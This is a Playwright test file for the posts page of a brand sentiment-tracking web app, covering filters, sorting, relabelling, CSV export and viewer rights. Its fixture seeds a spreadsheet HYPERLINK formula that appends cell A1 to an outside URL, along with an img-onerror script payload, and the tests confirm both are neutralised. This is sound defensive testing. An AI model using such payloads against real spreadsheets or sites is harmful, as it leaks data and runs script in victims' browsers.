"""The page on which posts are found, read, corrected, and taken along."""

import csv
import io
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import NewPage, Said
from tests.browser.looks import looks_right, silent, stayed_in_place, watch_shifts
from tests.stack import RunningStack, eventually

pytestmark = pytest.mark.slow

NAMES = ("negative", "neutral", "positive")
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Larkspur is great")'
MARKUP = "<img src=x: onerror=\"document.title = 'ran'\"> Larkspur is late again"
PLAIN = "I love the Larkspur"
Post = dict[str, Any]


@pytest.fixture
def brand(shown: RunningStack) -> Iterator[dict[str, Any]]:
    """A brand with posts that wish its readers ill, and one that leads to where it was posted."""
    made = shown.client.post("/brands", json={"name": "Larkspur", "sources": ["webhook:shop"]}).json()
    told = {"posted_at": datetime.now(UTC).isoformat(), "language": "en", "url": f"{shown.url}/app/feeds"}
    shown.push(made["feeds"][0], [{**told, "external_id": text, "text": text} for text in (FORMULA, MARKUP, PLAIN)])
    eventually(lambda: all(post["score"] for post in heard(shown, made["id"])), 60)
    yield made
    shown.client.delete(f"/brands/{made['id']}")


def heard(stack: RunningStack, brand_id: int) -> list[Post]:
    """All posts on a brand, the newest first."""
    found, asked = list[Post](), {"brand_id": brand_id, "limit": 200}
    while True:
        page = stack.client.get("/posts", params=asked).json()
        found += page["posts"]
        if not page["next_cursor"]:
            return found
        asked["cursor"] = page["next_cursor"]


@pytest.fixture
def demo(shown: RunningStack) -> list[Post]:
    (brand,) = shown.client.get("/brands", params={"name": "Tazzamo"}).json()["brands"]
    return heard(shown, brand["id"])


def opened(page: Page, address: str = "/app/posts") -> Page:
    page.goto(address)
    return page


def texts(page: Page) -> list[str]:
    return page.locator(".post-text").all_text_contents()


def post(page: Page, text: str) -> Locator:
    return page.get_by_role("article").filter(has_text=text)


def choose(page: Page, name: str, option: str) -> None:
    with page.expect_navigation():
        page.get_by_role("main").get_by_label(name, exact=True).select_option(label=option)


def downloaded(page: Page) -> list[dict[str, str]]:
    with page.expect_download() as download:
        page.get_by_role("link", name="Download as CSV").click()
    assert download.value.suggested_filename == "posts.csv"
    return list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"), newline="")))


def newest(demo: list[Post], fits: Callable[[Post], bool]) -> list[str]:
    """What the first page should show."""
    return [one["text"] for one in demo if fits(one)][:50]


def test_words_and_filters_narrow_the_list_together_and_are_in_the_address(page: Page, demo: list[Post]) -> None:
    def has_words(one: Post) -> bool:
        return "update" in one["text"].lower() and "machine" in one["text"].lower()

    search = opened(page).get_by_role("searchbox", name="Words in the text")
    assert texts(page) == newest(demo, lambda _: True)
    looks_right(page)
    search.fill("update MACHINE")
    search.press("Enter")
    page.wait_for_url("**q=update+MACHINE**")
    assert texts(page) == newest(demo, has_words) != []
    page.get_by_role("group", name="Sentiment").get_by_role("link", name="Negative").click()
    page.wait_for_url(lambda url: "q=update+MACHINE" in url and "sentiment=negative" in url)
    found = newest(demo, lambda one: has_words(one) and one["score"]["sentiment"] == "negative")
    assert texts(page) == found != newest(demo, has_words)
    assert silent(page)


@pytest.mark.parametrize(
    ("name", "option", "told", "fits"),
    [
        ("Source", "Reddit (demo)", "source=demo-reddit", lambda one: one["source"] == "demo-reddit"),
        ("Language", "German", "language=de", lambda one: one["language"] == "de"),
        ("Time", "24 hours", "period=1", lambda one: is_young(one, timedelta(days=1))),
    ],
)
def test_a_filter_is_chosen(
    page: Page, demo: list[Post], name: str, option: str, told: str, fits: Callable[[Post], bool]
) -> None:
    choose(opened(page), name, option)
    assert told in page.url
    assert texts(page) == newest(demo, fits) != []


def is_young(one: Post, age: timedelta) -> bool:
    return datetime.now(UTC) - datetime.fromisoformat(one["posted_at"]) < age


@pytest.mark.parametrize(
    ("order", "name", "worth"),
    [
        ("Most reposted", "reach", lambda one: one["reach"]),
        ("Least certain", "uncertainty", lambda one: 1 - sum(one["score"][name] ** 2 for name in NAMES)),
        ("Most negative", "negativity", lambda one: one["score"]["negative"]),
    ],
)
def test_the_most_comes_first(
    page: Page, demo: list[Post], order: str, name: str, worth: Callable[[Post], float]
) -> None:
    choose(opened(page), "Order", order)
    assert f"sort={name}" in page.url
    by_text = {one["text"]: worth(one) for one in demo}
    first = texts(page)
    assert [by_text[text] for text in first] == sorted(map(worth, demo), reverse=True)[:50]
    page.get_by_role("link", name="More").click()
    page.wait_for_url("**cursor=**")
    assert by_text[texts(page)[0]] <= by_text[first[-1]]
    assert not set(first) & set(texts(page))


def test_scores_are_shown_with_the_version_that_gave_them(page: Page, demo: list[Post]) -> None:
    first = demo[0]
    shown = post(opened(page), first["text"]).first
    bar = shown.get_by_role("img", name=re.compile("^The model: negative"))
    assert [int(share) for share in re.findall(r"\d+", bar.get_attribute("aria-label") or "")] == [
        round(100 * first["score"][name]) for name in NAMES
    ]
    expect(shown.get_by_text(f"scored by {first['score']['model']}")).to_be_visible()


def test_a_key_corrects_the_model_and_another_takes_it_back(page: Page, demo: list[Post], labels: Said) -> None:
    watch_shifts(page)
    opened(page).keyboard.press("j")
    page.keyboard.press("j")
    second = page.get_by_role("article").nth(1)
    expect(second).to_be_focused()
    page.keyboard.press("1")
    expect(second.get_by_text("saved: negative, labelled by you")).to_be_visible()
    page.keyboard.press("3")
    expect(second.get_by_text("saved: positive, labelled by you")).to_be_visible()
    (label,) = labels()
    told = {name: label[name] for name in ("text", "label", "purpose", "source", "brand")}
    text, source = demo[1]["text"], demo[1]["source"]
    assert told == {"text": text, "label": "positive", "purpose": "train", "source": source, "brand": "Tazzamo"}
    assert stayed_in_place(page)
    page.reload()
    expect(second.get_by_role("button", name="Positive")).to_have_attribute("aria-pressed", "true")
    looks_right(page)
    second.get_by_role("button", name="Neutral").click()
    expect(second.get_by_text("saved: neutral, labelled by you")).to_be_visible()
    page.keyboard.press("u")
    expect(second.get_by_text("undone: positive again")).to_be_visible()
    assert [one["label"] for one in labels()] == ["positive"]
    page.get_by_role("article").nth(2).focus()
    page.keyboard.press("2")
    expect(page.get_by_text("saved: neutral, labelled by you").first).to_be_visible()
    page.keyboard.press("u")
    expect(page.get_by_text("undone: no label of yours").first).to_be_visible()
    assert len(labels()) == 1
    assert silent(page)


def test_a_post_leads_to_where_it_was_posted_and_does_no_harm(page: Page, brand: dict[str, Any]) -> None:
    opened(page, f"/app/posts?brand={brand['id']}")
    assert sorted(texts(page)) == sorted([FORMULA, MARKUP, PLAIN])
    expect(page).to_have_title(re.compile("^Posts"))
    link = post(page, PLAIN).get_by_role("link", name="Open the post on Pushed, in a new tab")
    with page.expect_popup() as popup:
        link.click()
    expect(popup.value).to_have_url(re.compile("/app/feeds$"))
    assert popup.value.evaluate("[window.opener, document.referrer]") == [None, ""]
    popup.value.close()
    post(page, PLAIN).focus()
    with page.expect_popup() as popup:
        page.keyboard.press("o")
    popup.value.close()
    looks_right(page)


def test_what_is_shown_is_taken_along_as_csv(page: Page, demo: list[Post]) -> None:
    opened(page, "/app/posts?sentiment=positive&sort=reach&period=all")
    rows = downloaded(page)
    shown = texts(page)
    while (more := page.get_by_role("link", name="More")).count():
        with page.expect_navigation():
            more.click()
        shown += texts(page)
    assert [row["text"].removeprefix("'") for row in rows] == shown
    assert {row["sentiment"] for row in rows} == {"positive"}
    assert {row["model"] for row in rows} == {one["score"]["model"] for one in demo}
    assert silent(page)


def test_no_cell_of_it_is_a_formula(page: Page, brand: dict[str, Any]) -> None:
    opened(page, f"/app/posts?brand={brand['id']}&q=HYPERLINK")
    (row,) = downloaded(page)
    assert row["text"] == f"'{FORMULA}"


def test_a_point_of_the_chart_leads_to_the_posts_that_it_counts(page: Page) -> None:
    page.get_by_role("group", name=re.compile("Sentiment of Tazzamo over time")).press("Home")
    page.keyboard.press("ArrowRight")
    link = page.locator("#sentiment [data-readout]").get_by_role("link")
    count = int(re.sub(r"\D", "", link.inner_text()))
    link.click()
    page.wait_for_url("**since=**until=**")
    assert len(texts(page)) == min(count, 50) > 0
    page.get_by_role("link", name="Any time").click()
    expect(page.get_by_label("Time", exact=True)).to_have_value("30")
    assert silent(page)


def test_where_nothing_is_found_a_way_on_is(page: Page, shown: RunningStack) -> None:
    opened(page, "/app/posts?q=quetzal&sentiment=neutral")
    expect(page.get_by_text("Nothing on Tazzamo is like that in this time")).to_be_visible()
    looks_right(page)
    page.get_by_role("link", name="Drop the filters").click()
    expect(page.get_by_role("article").first).to_be_visible()
    made = shown.client.post("/brands", json={"name": "Unheard"}).json()
    opened(page, f"/app/posts?brand={made['id']}")
    page.get_by_role("link", name="Look at all there is").click()
    page.get_by_role("link", name="See how its feeds do").click()
    page.wait_for_url("**/app/feeds?**")
    shown.client.delete(f"/brands/{made['id']}")


def test_a_viewer_reads_and_corrects_nothing(new_page: NewPage, shown: RunningStack, labels: Said) -> None:
    made = shown.client.post("/keys", json={"name": "onlooker", "role": "viewer"}).json()
    page = opened(new_page(key=made["key"]))
    page.keyboard.press("j")
    page.keyboard.press("1")
    expect(page.get_by_role("article").first).to_be_focused()
    expect(page.get_by_role("article").get_by_role("button")).to_have_count(0)
    assert labels() == []
    assert silent(page)
    shown.client.delete(f"/keys/{made['id']}")
